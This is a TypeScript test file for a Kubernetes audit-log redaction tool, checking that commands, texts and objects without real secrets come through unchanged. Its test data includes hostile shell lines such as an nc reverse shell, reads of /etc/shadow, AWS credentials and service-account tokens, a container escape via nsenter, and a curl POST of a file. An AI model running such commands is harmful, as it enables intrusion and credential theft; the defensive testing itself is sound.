/** What must stay as it is: an alert that hides what happened is as bad as one that tells a secret. */
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { JsonObject } from '../../src/schema/audit-event.ts';
import { redactEvent } from '../../src/source/audit/redact.ts';
import { redactText } from '../../src/text/redact/text.ts';
import { redactUri } from '../../src/text/redact/uri.ts';
import { redactWords } from '../../src/text/redact/words.ts';
import { sharedData } from '../shared-data.ts';
import { characters } from './planted.ts';

const commands = [
  'kubectl -n x get pods -p',
  'kubectl logs -p web-0-7f9c8d',
  'kubectl get secret db -o yaml',
  'kubectl get secrets -A -o json',
  'kubectl create token admin -n kube-system',
  'kubectl auth can-i get secrets --as=system:serviceaccount:x:token-controller',
  'kubectl config set-context prod --user=admin --namespace=x',
  'kubectl describe secret -n kube-system token-abcde',
  'kubectl create secret generic db --from-file=./db.yaml',
  'kubectl exec -it web-0 -- sh',
  'mkdir -p /x',
  'mkdir -p /var/lib/App1/Data2',
  'ssh -p 22 host',
  'ssh -p 2222 -i /root/.ssh/id_ed25519 root@10.0.0.1',
  'scp -P 22 a h:/b',
  'tar -cf - -p',
  'tar -cf - /etc/kubernetes',
  'tar xzpf a.tgz -C /x',
  'grep -a token /proc/1/environ',
  'grep -a -i password /etc/app.conf',
  'grep -r password /etc',
  'ps -a -u root',
  'ls -la -p',
  'cp -a Src1Dir DstDir',
  'date -u +%H:%M',
  'docker run -u 1000:1000 -p 8080:80 nginx:1.25',
  'docker ps -a',
  'docker exec -u root -it c bash',
  'mysql -u root -p mydb',
  'mysql -h db -P 3306 -u root',
  'psql -U app -p 5432 -h db app',
  'redis-cli -h redis -p 6379 ping',
  'mongosh --port 27017 --eval db.stats()',
  'curl -k -s https://10.0.0.1:6443/api/v1/secrets',
  'curl -sk -X POST -d @/tmp/x https://h/x?limit=500',
  'curl --cacert /var/run/secrets/kubernetes.io/serviceaccount/ca.crt https://kubernetes.default',
  'cat /var/run/secrets/kubernetes.io/serviceaccount/token',
  'cat /etc/shadow /root/.aws/credentials',
  'echo $DB_PASSWORD',
  'mysql --password=$DB_PASSWORD',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell's
  'mysql -p${MYSQL_PWD} -u root',
  'curl -u admin:$PW https://h',
  'nc -e /bin/sh 10.0.0.1 4444',
  'nsenter -t 1 -m -u -i -n -p -- bash',
  'python3 -c "import pty; pty.spawn(\'/bin/sh\')"',
  'find / -name "*token*" -perm -4000',
  'apt install mysql-client -y',
  'vault status',
  'vault login -method=userpass username=alice',
  'helm install web ./chart -n x -f values.yaml',
  'aws sts get-caller-identity',
  'aws s3 cp s3://b/k /tmp/k',
  'openssl x509 -in /x.crt -noout -text',
  'echo hello | tee /tmp/x',
  'echo id | sh',
  'kube-apiserver --service-account-signing-key-file=/etc/kubernetes/pki/sa.key --tls-private-key-file=/x/tls.key',
  'app --validating-webhook-key=/usr/local/certificates/key --token-ttl=24h --enable-token-auth=true',
  'app --authentication-token-webhook=true --secret-name=db --token-file=/x/token --max-tokens=4096',
  'git clone git@github.com:org/repo.git',
  'nginx -g "daemon off;"',
];

const texts = [
  'secrets "db" is forbidden: User "x" cannot get resource "secrets" in API group "" in the namespace "default"',
  'secret "db" not found',
  'MountVolume.SetUp failed for volume "token" : secret "web-token-abcde" not found',
  'the server has asked for the client to provide credentials',
  'RBAC: allowed by ClusterRoleBinding "token-reader" of ClusterRole "view" to User "oidc:alice@example.com"',
  'arn:aws:secretsmanager:eu-west-1:111122223333:secret:db-AbCdEf',
  'arn:aws:sts::111122223333:assumed-role/AWSReservedSSO_AdministratorAccess_0123456789abcdef/alice@example.com',
  'arn:aws:iam::111122223333:role/eksctl-Prod1Cluster2-NodeInstanceRole-1ABCDEFGH2IJK',
  'arn:aws:kms:eu-west-1:111122223333:key/0f7c2f1e-6f0c-4a51-9d8e-3b1f60d1a001',
  'AKIAIOSFODNN7EXAMPLE',
  'ASIAIOSFODNN7EXAMPLE',
  'AROAIOSFODNN7EXAMPLE:alice',
  '111122223333.dkr.ecr.eu-west-1.amazonaws.com/team/app:1.2.3-abcdef0',
  'ghcr.io/org/app@sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
  'sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
  'da39a3ee5e6b4b0d3255bfef95601890afd80709',
  'd41d8cd98f00b204e9800998ecf8427e',
  '0f7c2f1e-6f0c-4a51-9d8e-3b1f60d1a001',
  'JTI=7ee52be0-9045-4653-aa5e-0da57b8dccdc',
  '/api/v1/namespaces/default/serviceaccounts/cart/token',
  '/var/lib/kubelet/pods/0f7c2f1e-6f0c-4a51-9d8e-3b1f60d1a001/volumes',
  '/opt/App1/Lib2/Cfg3/Bin4/Var5/Run6/Tmp7',
  'system:serviceaccount:kube-system:token-cleaner',
  'system:bootstrap:abcdef',
  'kubectl/v1.31.0 (linux/amd64) kubernetes/9edcffc',
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36',
  'aws-sdk-go-v2/1.30.3 os/linux lang/go#1.22.5 md/GOOS#linux api/secretsmanager#1.32.4',
  'web-7f9c8d6b5-x2x4z',
  'ip-10-0-12-34.eu-west-1.compute.internal',
  'https://oidc.eks.eu-west-1.amazonaws.com/id/0123456789ABCDEF0123456789ABCDEF',
  'https://host:8443/path@x',
  'https://github.com/org/repo/blob/main/secrets.md?plain=1#L10',
  'basic configuration of everything',
  'bearer of bad news',
  'wrong password for user "root"',
  'password authentication failed for user "app"',
  'token expired at 2026-03-01T10:00:00Z',
  'sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg==',
  `sha256-${characters(43)}=`,
  // As long as an AWS key, and longer, of the same characters.
  `${characters(41)}`,
  `${characters(44)}`,
  'ThisIsAWordOfFortyCharactersAndNoKeyAtA1',
  'continue=eyJ2IjoibWV0YS5rOHMuaW8vdjEiLCJydiI6MTIzNDU2LCJzdGFydCI6IndlYi0wXHUwMDAwIn0',
  `-----BEGIN CERTIFICATE-----\n${characters(64)}\n${characters(40)}\n-----END CERTIFICATE-----\n`,
  Buffer.from(
    `-----BEGIN CERTIFICATE-----\n${characters(64)}\n${characters(40)}\n-----END CERTIFICATE-----\n`,
  ).toString('base64'),
  Buffer.from('#!/bin/sh\nset -e\necho hello world, this is no secret\n').toString('base64'),
  '{"secretName":"db","secretKeyRef":{"name":"db","key":"password"}}',
  '[{"name":"A","valueFrom":{"secretKeyRef":{"name":"db","key":"password"}}},{"name":"LEVEL","value":"debug"}]',
  'volumes:\n- name: token\n  secret:\n    secretName: db\n- name: x\n',
  'PWD=/root',
  'a=b; c=d',
];

describe('no secret is found in', () => {
  it.each(commands)('%s', (command) => {
    const words = command.split(' ');
    expect(redactText(command)).toBe(command);
    expect(redactWords(words)).toEqual(words);
    const uri = `/x/exec?${words.map((word) => `command=${encodeURIComponent(word)}`).join('&')}&stdin=true`;
    expect(redactUri(uri)).toBe(uri);
    const line = `/x/exec?command=sh&command=-c&command=${encodeURIComponent(command)}`;
    expect(redactUri(line)).toBe(line);
  });

  it.each(texts)('%s', (text) => {
    expect(redactText(text)).toBe(text);
    const event = { requestObject: { metadata: { annotations: { x: text } }, words: [text, 'x'] } };
    expect(redactEvent(event)).toEqual(event);
  });

  it.each<[string, JsonObject]>([
    [
      'volumes',
      {
        volumes: [{ name: 'token', secret: { secretName: 'db', items: [{ key: 'password', path: 'pw' }] } }],
      },
    ],
    [
      'references',
      {
        env: [{ name: 'DB_PASSWORD', valueFrom: { secretKeyRef: { name: 'db', key: 'password' } } }],
        envFrom: [{ secretRef: { name: 'db' } }],
      },
    ],
    ['pull secrets', { imagePullSecrets: [{ name: 'registry' }], secrets: [{ name: 'web-token-abcde' }] }],
    [
      'a projected token',
      {
        projected: {
          sources: [
            {
              serviceAccountToken: { audience: 'sts.amazonaws.com', path: 'token', expirationSeconds: 86400 },
            },
          ],
        },
      },
    ],
    [
      'tolerations and selectors',
      {
        tolerations: [{ key: 'dedicated', operator: 'Equal', value: 'db' }],
        topologyKey: 'kubernetes.io/hostname',
      },
    ],
    [
      'roles',
      {
        rules: [
          {
            apiGroups: [''],
            resources: ['secrets', 'tokenreviews', 'serviceaccounts/token'],
            verbs: ['get'],
          },
        ],
      },
    ],
    [
      'fields that a request manages',
      {
        managedFields: [
          {
            fieldsV1: {
              'f:data': { 'k:{"name":"DB_PASSWORD"}': { '.': {}, 'f:name': {}, 'f:valueFrom': {} } },
            },
          },
        ],
      },
    ],
    [
      'what says of a variable where it is',
      {
        env: [
          { name: 'TOKEN_FILE', value: '/x/token' },
          { name: 'SECRET_NAME', value: 'db' },
          { name: 'TOKEN_TTL', value: '3600' },
          { name: 'TLS_KEY', value: '/tls/tls.key' },
          { name: 'USE_TOKEN', value: 'true' },
          { name: 'TOKEN_URL', value: 'https://login.example/oauth2/token' },
          { name: 'AWS_ACCESS_KEY_ID', value: 'AKIAIOSFODNN7EXAMPLE' },
          { name: 'PUBLIC_KEY', value: 'MFkwEwYHKoZIzj0CAQ' },
          { name: 'DB_PASSWORD', value: '$(DB_PASSWORD_REF)' },
        ],
      },
    ],
    [
      'who called',
      {
        user: {
          username: 'oidc:alice@example.com',
          uid: 'aws-iam-authenticator:111122223333:AROAEXAMPLE',
          groups: ['system:masters', 'token-admins'],
          extra: {
            arn: ['arn:aws:sts::111122223333:assumed-role/admin/alice'],
            accessKeyId: ['ASIAIOSFODNN7EXAMPLE'],
            sessionName: ['Alice1985'],
            'authentication.kubernetes.io/credential-id': ['JTI=7ee52be0-9045-4653-aa5e-0da57b8dccdc'],
          },
        },
      },
    ],
    [
      'what the API server says of a token',
      {
        annotations: {
          'authentication.k8s.io/legacy-token': 'system:serviceaccount:kube-system:ci',
          'authentication.k8s.io/stale-token':
            'subject: system:serviceaccount:a:b, seconds after warning threshold: 424',
        },
      },
    ],
    [
      'a signing request',
      {
        spec: {
          request: Buffer.from(
            '-----BEGIN CERTIFICATE REQUEST-----\nMIIB\n-----END CERTIFICATE REQUEST-----\n',
          ).toString('base64'),
          signerName: 'kubernetes.io/kubelet-serving',
        },
      },
    ],
  ])('%s', (_, object) => {
    const event = { ...object, requestObject: object };
    expect(redactEvent(event)).toEqual(event);
  });

  const path = sharedData('detection/cases.ndjson');
  it.skipIf(path === undefined)('most events that others recorded', () => {
    const events = readFileSync(path as string, 'utf8')
      .split('\n')
      .filter((line) => line !== '')
      .flatMap((line): readonly JsonObject[] => JSON.parse(line).event as JsonObject[]);
    const changed = events.filter((event) => JSON.stringify(redactEvent(event)) !== JSON.stringify(event));
    expect(events.length).toBeGreaterThan(500);
    expect(changed.length).toBeLessThan(events.length / 50);
  });
});
